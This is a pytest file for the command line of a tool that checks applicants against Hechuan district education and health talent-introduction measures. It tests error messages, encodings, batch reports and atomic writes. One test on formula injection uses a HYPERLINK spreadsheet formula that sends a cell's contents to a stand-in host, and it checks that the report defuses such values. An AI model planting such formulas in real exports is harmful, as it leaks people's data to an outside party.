"""The command line, run in-process: every bad input gives a message and an exit code, never a traceback."""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
import json
from pathlib import Path

import pytest

import checker
from checker import policy
from checker.citation import MEASURES
from checker.cli import main
from tests.helpers import CASES, CASES_DIR, load_case

PROFILE = {"measure": "education", "situation": "recruit", "birth_date": "1976-03-10",
           "edu_honours": ["national_model_teacher"], "service_commitment": True, "edu_school_type": "compulsory"}


@pytest.fixture
def profile_file(tmp_path):
    path = tmp_path / "profile.json"
    path.write_text(json.dumps(PROFILE, ensure_ascii=False), "utf-8")
    return path


def test_evaluate_json_is_the_result_dict(profile_file, capsys):
    assert main(["evaluate", str(profile_file), "--format", "json", "--as-of", "2026-06-01"]) == 0
    printed = json.loads(capsys.readouterr().out)
    assert printed == checker.evaluate(PROFILE, as_of=dt.date(2026, 6, 1)).to_dict()


def test_evaluate_text_is_chinese_and_cites(profile_file, capsys):
    assert main(["evaluate", str(profile_file), "--as-of", "2026-06-01"]) == 0
    out = capsys.readouterr().out
    assert "最高可能层次：A类教育人才" in out
    assert "［教育办法第四条A类］" in out
    assert "不是官方认定" in out
    assert "合计 77万元" in out  # one amount format, the checker's (checker.summary.yuan_text)
    assert out.index("每年约12.4万元（税前）") < out.index("逐条判断")  # plain words first


@pytest.mark.parametrize("args, expected", [
    (["evaluate", "/nonexistent/profile.json"], "无法读取 /nonexistent/profile.json：文件或目录不存在"),
    (["batch", "/nonexistent/in.csv", "-o", "out.csv"], "无法读写文件 /nonexistent/in.csv：文件或目录不存在"),
    (["evaluate", "{profile}", "--as-of", "2026-02-30"], "--as-of"),
])
def test_evaluate_bad_arguments(args, expected, profile_file, capsys):
    args = [a.replace("{profile}", str(profile_file)) for a in args]
    assert main(args) == 2
    err = capsys.readouterr().err
    assert expected in err and "Traceback" not in err


def test_evaluate_invalid_profile_lists_every_field(tmp_path, capsys):
    path = tmp_path / "bad.json"
    path.write_text(json.dumps({"measure": "education", "birth_date": "1990/01/01", "colour": "red"}), "utf-8")
    assert main(["evaluate", str(path)]) == 2
    err = capsys.readouterr().err
    assert "birth_date" in err and "colour" in err and "未知字段" in err


def test_evaluate_not_json(tmp_path, capsys):
    path = tmp_path / "bad.json"
    path.write_text('{"measure": "education",\n not json', "utf-8")
    assert main(["evaluate", str(path)]) == 2
    assert "不是有效的 JSON：第 2 行第 2 列有误" in capsys.readouterr().err


def write_csv(path, header, rows, encoding="utf-8"):
    with open(path, "w", encoding=encoding, newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(header)
        writer.writerows(rows)


def read_report(path):
    """The report's rows; it is UTF-8 with a BOM (Excel and WPS need it to read Chinese)."""
    raw = Path(path).read_bytes()
    assert raw.startswith(codecs.BOM_UTF8)
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_batch_reports_bad_rows_by_line_and_processes_the_rest(tmp_path, capsys):
    applicants, report = tmp_path / "in.csv", tmp_path / "out.csv"
    header = ["applicant", "measure", "situation", "birth_date", "edu_honours", "service_commitment", "edu_school_type",
              "health_institution_urban_quality", "health_title"]
    write_csv(applicants, header, [
        ["张三", "education", "recruit", "1976-03-10", "national_model_teacher;provincial_backbone_teacher", "true",
         "compulsory", "", ""],
        ["李四", "education", "recruit", "1976-02-30", "", "true", "", "", ""],
        ["王五", "health", "in_district", "1990-01-01", "", "", "", "是", "wizard"],
        ["赵六", "education", "recruit", "1970-06-01", "provincial_special_teacher", "否", "", "", ""],
    ])
    assert main(["batch", str(applicants), "-o", str(report), "--as-of", "2026-06-01"]) == 1
    err = capsys.readouterr().err
    assert "第 3 行" in err and "birth_date" in err
    assert "第 4 行" in err and "health_title" in err
    rows = read_report(report)
    assert [r["applicant"] for r in rows] == ["张三", "赵六"]
    first, last = rows
    assert (first["line"], first["programme"], first["tier"], first["verdict"], first["total_yuan"]) == \
        ("2", "introduction", "a", "met", "770000")
    assert (first["employer_yuan"], first["fund_yuan"]) == ("0", "770000")
    # 赵六 is 56 and refuses the commitment: B under review (the commitment conditions the money,
    # not the tier), no money, and the report says what the top tier still needs
    assert (last["tier"], last["verdict"], last["total_yuan"]) == ("b", "review", "0")
    assert "全国层次荣誉" in last["missing"]


def test_batch_reports_a_cell_that_is_not_an_integer(tmp_path, capsys):
    applicants, report = tmp_path / "in.csv", tmp_path / "out.csv"
    write_csv(applicants, ["measure", "situation", "health_years_affiliated_hospital"],
              [["health", "recruit", "²"], ["health", "recruit", "3.5"], ["health", "recruit", "9" * 5000],
               ["health", "recruit", " 12 "]])
    assert main(["batch", str(applicants), "-o", str(report)]) == 1
    err = capsys.readouterr().err
    assert all(f"第 {line} 行：health_years_affiliated_hospital: 应为整数" in err for line in (2, 3, 4)), err
    assert "Traceback" not in err
    assert [r["line"] for r in read_report(report)] == ["5"]


def test_batch_rejects_unknown_columns(tmp_path, capsys):
    applicants = tmp_path / "in.csv"
    write_csv(applicants, ["measure", "shoe_size"], [["education", "42"]])
    assert main(["batch", str(applicants), "-o", str(tmp_path / "out.csv")]) == 2
    assert "shoe_size" in capsys.readouterr().err


def test_schema_is_generated_from_the_questions(capsys):
    assert main(["schema"]) == 0
    schema = json.loads(capsys.readouterr().out)
    assert list(schema["properties"]) == [q["id"] for q in checker.questions()]
    assert schema["additionalProperties"] is False and schema["required"] == ["measure"]
    assert schema["properties"]["measure"]["enum"] == [*MEASURES, None]


@pytest.mark.parametrize("command, check", [
    ("questions", lambda data: data == checker.questions()),
    ("rules", lambda data: data == policy.load() and list(data["measures"]) == list(MEASURES)),
])
def test_questions_and_rules_print_json(command, check, capsys):
    assert main([command]) == 0
    assert check(json.loads(capsys.readouterr().out))


def test_batch_missing_names_the_next_tier_open_to_the_path(tmp_path, capsys):
    """An E graduate is told what D needs; a D graduate is not told to become a recruit with honours."""
    applicants, report = tmp_path / "in.csv", tmp_path / "out.csv"
    header = ["measure", "situation", "edu_university", "edu_grad_level", "edu_grad_full_time", "edu_normal_major",
              "edu_fresh_graduate", "edu_excellent_graduate", "service_commitment"]
    write_csv(applicants, header, [
        ["education", "graduate", "重庆大学", "master", "true", "true", "true", "true", "true"],
        ["education", "graduate", "西南大学", "master", "true", "true", "true", "true", "true"],
    ])
    assert main(["batch", str(applicants), "-o", str(report), "--as-of", "2026-06-01"]) == 0
    e_row, d_row = read_report(report)
    assert (e_row["tier"], e_row["tier_verdict"], e_row["missing"]) == ("e", "met", "教育部直属重点师范类高等院校毕业")
    assert (d_row["tier"], d_row["missing"]) == ("d", "")


def test_batch_rows_say_what_they_were_computed_from(tmp_path):
    """Issue 8 reading 13: the report carries the measure's title, the rule data's date and checksum, the as-of date."""
    applicants, report = tmp_path / "in.csv", tmp_path / "out.csv"
    write_csv(applicants, ["measure", "situation"], [["health", "recruit"]])
    assert main(["batch", str(applicants), "-o", str(report), "--as-of", "2026-06-01"]) == 0
    (row,) = read_report(report)
    version = policy.version()
    assert "合川区卫生人才引进培养办法（试行）" in row["computed_from"]
    assert version["changed"] in row["computed_from"] and version["checksum"] in row["computed_from"]
    assert "2026-06-01" in row["computed_from"]


def parallel_csv_text() -> str:
    """PARALLEL_FROM_ROWS and more rows cycling through the cases (the invalid ones included)."""
    from checker.batch import PARALLEL_FROM_ROWS

    profiles = [load_case(p)["profile"] for p in CASES]
    ids = {q["id"] for q in checker.questions()}
    header = sorted({k for p in profiles for k in p if k in ids})

    def cell(value):
        if isinstance(value, bool):
            return "true" if value else "false"
        return ";".join(value) if isinstance(value, list) else str(value)

    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    for i in range(PARALLEL_FROM_ROWS + 7):
        profile = profiles[i % len(profiles)]
        writer.writerow([cell(profile[k]) if k in profile else "" for k in header])
    return out.getvalue()


def batch_in_memory(text: str, jobs: int):
    from checker.batch import run_batch

    report, err = io.StringIO(), io.StringIO()
    counts = run_batch(io.StringIO(text, newline=""), report, err, dt.date(2026, 6, 1), jobs=jobs)
    return counts, report.getvalue(), err.getvalue()


def test_batch_in_parallel_writes_the_same_report():
    """Files of PARALLEL_FROM_ROWS rows or more use all cores; the report must not change."""
    text = parallel_csv_text()
    one, two = batch_in_memory(text, 1), batch_in_memory(text, 2)
    assert one == two
    assert one[0][1] > 0 and "第 " in one[2]  # the invalid case rows are reported in both


def test_batch_in_parallel_where_the_os_has_no_fork(monkeypatch):
    """Windows has no fork: --jobs must use spawn there, with the same report."""
    import multiprocessing

    real = multiprocessing.get_context

    def no_fork(method=None):
        if method == "fork":
            raise ValueError("cannot find context for 'fork'")
        return real(method)

    text = parallel_csv_text()
    expected = batch_in_memory(text, 1)
    monkeypatch.setattr(multiprocessing, "get_all_start_methods", lambda: ["spawn"])
    monkeypatch.setattr(multiprocessing, "get_context", no_fork)
    assert batch_in_memory(text, 2) == expected


@pytest.mark.parametrize("args, expected", [
    (["--help"], ["批量评估申请人 CSV", "以 JSON 输出规则数据"]),
    (["evaluate", "--help"], ["回答文件", "评估日 YYYY-MM-DD"]),
    (["batch", "--help"], ["申请人 CSV", "报告 CSV", "评估日 YYYY-MM-DD"]),
])
def test_help_texts_are_chinese(args, expected, capsys):
    with pytest.raises(SystemExit) as info:
        main(args)
    assert info.value.code == 0
    out = capsys.readouterr().out
    assert all(text in out for text in expected), out


def test_evaluate_text_money_parts_add_up_for_flexible_introduction(tmp_path, capsys):
    """Flexible introduction is paid by time worked (edu art.9): the text names that part too."""
    import re

    case = load_case(CASES_DIR / "edu_flexible_a.toml")
    path = tmp_path / "flexible.json"
    path.write_text(json.dumps(case["profile"], ensure_ascii=False, default=str), "utf-8")
    assert main(["evaluate", str(path), "--as-of", str(case["as_of"])]) == 0
    line = next(l for l in capsys.readouterr().out.splitlines() if l.startswith("资金测算："))
    amounts = [float(n) * (10000 if unit else 1) for n, unit in re.findall(r"([\d.]+)(万)?元", line)]
    total, *parts = amounts
    assert total > 0 and sum(parts) == total, line


HEADER = ["applicant", "measure", "situation", "birth_date", "edu_honours", "service_commitment", "edu_school_type"]
GOOD = ["张三", "education", "recruit", "1976-03-10", "national_model_teacher", "true", "compulsory"]


def test_batch_refuses_to_write_its_report_over_its_input(tmp_path, capsys):
    applicants = tmp_path / "in.csv"
    write_csv(applicants, HEADER, [GOOD])
    before = applicants.read_bytes()
    (tmp_path / "link.csv").symlink_to(applicants)
    for output in (applicants, tmp_path / "." / "in.csv", tmp_path / "link.csv"):
        assert main(["batch", str(applicants), "-o", str(output)]) == 2
        assert "就是申请人文件本身" in capsys.readouterr().err
    assert applicants.read_bytes() == before


@pytest.mark.parametrize("content", [
    b"",  # empty input
    b"measure,shoe_size\r\neducation,42\r\n",  # a bad header
])
def test_a_fatal_batch_error_leaves_an_existing_report_untouched(tmp_path, content, capsys):
    applicants, report = tmp_path / "in.csv", tmp_path / "out.csv"
    applicants.write_bytes(content)
    report.write_text("last week's report", "utf-8")
    assert main(["batch", str(applicants), "-o", str(report)]) == 2
    assert report.read_text("utf-8") == "last week's report"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv", "out.csv"]  # no temporary file left


def test_the_report_replaces_an_old_one_only_when_complete(tmp_path, monkeypatch):
    """The report is written beside the target and moved into place at the end."""
    from checker import batch

    applicants, report = tmp_path / "in.csv", tmp_path / "out.csv"
    write_csv(applicants, HEADER, [GOOD, GOOD])
    report.write_text("old", "utf-8")
    seen = []

    def interrupted(result):  # the second row's evaluation is interrupted
        seen.append(sorted(p.name for p in tmp_path.iterdir()))
        if len(seen) == 2:
            raise KeyboardInterrupt
        return original(result)

    original = batch.report_row
    monkeypatch.setattr(batch, "report_row", interrupted)
    assert main(["batch", str(applicants), "-o", str(report)]) == 130
    assert report.read_text("utf-8") == "old"
    assert any(name.startswith(".out.csv.") for name in seen[0])  # the temporary file, beside the target
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv", "out.csv"]


def test_no_cell_of_the_report_is_a_formula(tmp_path):
    applicants, report = tmp_path / "in.csv", tmp_path / "out.csv"
    names = ['=HYPERLINK("http://x/?"&B2,"x")', "+1", "-1", "@SUM(A1)", "\tTAB", "\rCR", "王五"]
    write_csv(applicants, HEADER, [[name] + GOOD[1:] for name in names])
    assert main(["batch", str(applicants), "-o", str(report), "--as-of", "2026-06-01"]) == 0
    rows = read_report(report)
    assert [r["applicant"] for r in rows] == ["'" + n for n in names[:-1]] + ["王五"]
    for row in rows:
        assert not any(str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()), row


def test_one_bad_row_never_stops_the_run(tmp_path, capsys):
    """Oversize cells, undecodable bytes and a multi-line record: each row reported by its first line."""
    applicants, report = tmp_path / "in.csv", tmp_path / "out.csv"
    good = ",".join(GOOD[1:])
    applicants.write_bytes("\r\n".join([
        ",".join(HEADER),
        f"张三,{good}",                          # line 2
        f"{'长' * 200_000},{good}",              # line 3: over the csv module's field limit
        f'"多行\r\n的名字",{good}',               # lines 4-5: one record
        f"赵六,{good}",                          # line 6
    ]).encode("utf-8") + b"\r\n\xff\xfe," + good.encode() + f"\r\n钱七,{good}\r\n".encode())  # 7: bad bytes
    assert main(["batch", str(applicants), "-o", str(report), "--as-of", "2026-06-01"]) == 1
    err = capsys.readouterr().err
    assert "第 3 行：applicant：内容过长" in err
    assert "第 7 行：含有无法识别的字节" in err
    assert "Traceback" not in err and "已评估 4 行，错误 2 行" in err
    assert [(r["line"], r["applicant"]) for r in read_report(report)] == \
        [("2", "张三"), ("4", "多行\r\n的名字"), ("6", "赵六"), ("8", "钱七")]


@pytest.mark.parametrize("header, expected", [
    (["measure", "", "situation"], "第 2 列的列名为空"),
    (["measure", "situation", "measure"], "列 measure 重复（第 1、3 列）"),
])
def test_header_problems_are_named_before_any_row_runs(tmp_path, header, expected, capsys):
    applicants = tmp_path / "in.csv"
    write_csv(applicants, header, [["education", "recruit", "recruit"], ["oops", "x", "y"]])
    assert main(["batch", str(applicants), "-o", str(tmp_path / "out.csv")]) == 2
    err = capsys.readouterr().err
    assert expected in err and "第 2 行" not in err and "第 3 行" not in err
    assert not (tmp_path / "out.csv").exists()


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030", "gbk"])
def test_batch_reads_what_excel_and_wps_save(tmp_path, encoding):
    applicants, report = tmp_path / "in.csv", tmp_path / "out.csv"
    write_csv(applicants, HEADER + ["edu_university"], [GOOD + ["西南大学"], ["李四·赵"] + GOOD[1:] + ["重庆大学"]],
              encoding=encoding)
    assert main(["batch", str(applicants), "-o", str(report), "--as-of", "2026-06-01"]) == 0
    assert [r["applicant"] for r in read_report(report)] == ["张三", "李四·赵"]


def run_cli(args, encoding, cwd):
    import os
    import subprocess
    import sys

    env = {**os.environ, "PYTHONIOENCODING": encoding, "PYTHONPATH": str(Path(__file__).parent.parent)}
    return subprocess.run([sys.executable, "-m", "checker", *args], capture_output=True, env=env, cwd=cwd)


@pytest.mark.parametrize("encoding", ["gbk", "ascii", "utf-8"])
def test_any_console_prints_without_a_traceback(tmp_path, encoding):
    """A Chinese Windows console is GBK (no ✓ or ✗); a text answer may hold a lone surrogate."""
    path = tmp_path / "profile.json"
    graduate = {"measure": "education", "situation": "graduate", "edu_university": "西南\ud800大学",
                "edu_grad_level": "master"}
    path.write_text(json.dumps(graduate), "ascii")  # JSON escapes the surrogate; the graduate path prints it
    for fmt in ("text", "json"):
        done = run_cli(["evaluate", str(path), "--format", fmt, "--as-of", "2026-06-01"], encoding, tmp_path)
        assert done.returncode == 0 and b"Traceback" not in done.stderr, done.stderr.decode(encoding, "replace")
        assert "2026-06-01" in done.stdout.decode(encoding)
    if encoding == "gbk":
        assert "√" in run_cli(["evaluate", str(path)], encoding, tmp_path).stdout.decode("gbk")


def test_error_output_is_bounded(tmp_path, capsys):
    """100,000 bad answers to one multi question: the first errors, then how many more."""
    path = tmp_path / "profile.json"
    path.write_text(json.dumps({**PROFILE, "edu_honours": ["national_model_teacher"] * 50_000 + ["x"] * 50_000}))
    assert main(["evaluate", str(path)]) == 2
    err = capsys.readouterr().err
    assert len(err.splitlines()) <= 12 and "另有 99989 处错误" in err, err[:2000]


def test_evaluate_accepts_a_utf8_bom(tmp_path, capsys):
    path = tmp_path / "profile.json"
    path.write_bytes(codecs.BOM_UTF8 + json.dumps(PROFILE).encode())
    assert main(["evaluate", str(path), "--as-of", "2026-06-01"]) == 0
    assert "最高可能层次" in capsys.readouterr().out


@pytest.mark.parametrize("args", [["--help"], ["batch", "--help"], ["evaluate", "--help"]])
def test_exit_codes_are_documented(args, capsys):
    with pytest.raises(SystemExit):
        main(args)
    out = capsys.readouterr().out
    assert all(f"\n  {code} " in out for code in (0, 1, 2)), out
    readme = (Path(__file__).parent.parent / "README.md").read_text("utf-8")
    assert all(f"| {code} |" in readme for code in (0, 1, 2))


@pytest.mark.parametrize("digits", ["０１２３４５６７８９", "٠١٢٣٤٥٦٧٨٩", "۰۱۲۳۴۵۶۷۸۹"])
def test_non_ascii_digits_are_a_format_error(tmp_path, digits, capsys):
    """Full-width and Arabic-Indic digits: int() and \\d accept them; the checker must not."""
    wide = str.maketrans("0123456789", digits)
    with pytest.raises(checker.ValidationError) as info:
        checker.evaluate({"measure": "health", "birth_date": "1990-01-02".translate(wide)})
    assert "应为 YYYY-MM-DD 格式的日期" in str(info.value)
    applicants = tmp_path / "in.csv"
    write_csv(applicants, ["measure", "situation", "health_years_affiliated_hospital"],
              [["health", "recruit", "12".translate(wide)]])
    assert main(["batch", str(applicants), "-o", str(tmp_path / "out.csv")]) == 1
    assert "第 2 行：health_years_affiliated_hospital: 应为整数" in capsys.readouterr().err


def test_schedule_dates_stay_within_four_digit_years():
    case = {**PROFILE, "start_date": "9999-12-01"}
    with pytest.raises(checker.ValidationError) as info:
        checker.evaluate(case, as_of=dt.date(2026, 6, 1))
    assert "start_date" in str(info.value)
    months = checker.evaluate({**PROFILE, "start_date": "2030-12-01"}, as_of=dt.date(2026, 6, 1)).to_dict()["money"]
    assert months["yearly"][-1]["to"] == "2035-12"


def test_batch_reads_and_writes_xlsx(tmp_path):
    """The optional .xlsx files: cells typed by Excel (dates, numbers, booleans) read as their CSV text."""
    openpyxl = pytest.importorskip("openpyxl")
    applicants, report = tmp_path / "in.xlsx", tmp_path / "out.xlsx"
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(HEADER)
    sheet.append(["=1+1", "education", "recruit", dt.datetime(1976, 3, 10), "national_model_teacher", True,
                  "compulsory"])
    sheet.append(["李四", "education", "recruit", "1976-02-30", None, True, None])
    sheet["A2"].data_type = "s"  # text that looks like a formula, as a form export may hold
    book.save(applicants)
    assert main(["batch", str(applicants), "-o", str(report), "--as-of", "2026-06-01"]) == 1
    rows = list(openpyxl.load_workbook(report).active.iter_rows(values_only=True))
    assert rows[0] == tuple(checker.batch.REPORT_COLUMNS)
    assert [r[:4] for r in rows[1:]] == [(2, "'=1+1", "education", "introduction")]
    assert rows[1][checker.batch.REPORT_COLUMNS.index("total_yuan")] == 770000


def test_the_checker_core_never_imports_openpyxl():
    import subprocess
    import sys

    code = ("import sys, checker, checker.api, checker.batch, checker.cli, checker.schema; "
            "checker.cli.main(['questions']); assert 'openpyxl' not in sys.modules")
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, cwd=Path(__file__).parent.parent)
    assert done.returncode == 0, done.stderr


def test_xlsx_without_openpyxl_is_a_clear_message(tmp_path, monkeypatch, capsys):
    import sys

    applicants = tmp_path / "in.csv"
    write_csv(applicants, HEADER, [GOOD])
    monkeypatch.setitem(sys.modules, "openpyxl", None)  # import openpyxl → ImportError
    assert main(["batch", str(applicants), "-o", str(tmp_path / "out.xlsx")]) == 2
    assert "需要 openpyxl" in capsys.readouterr().err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv"]
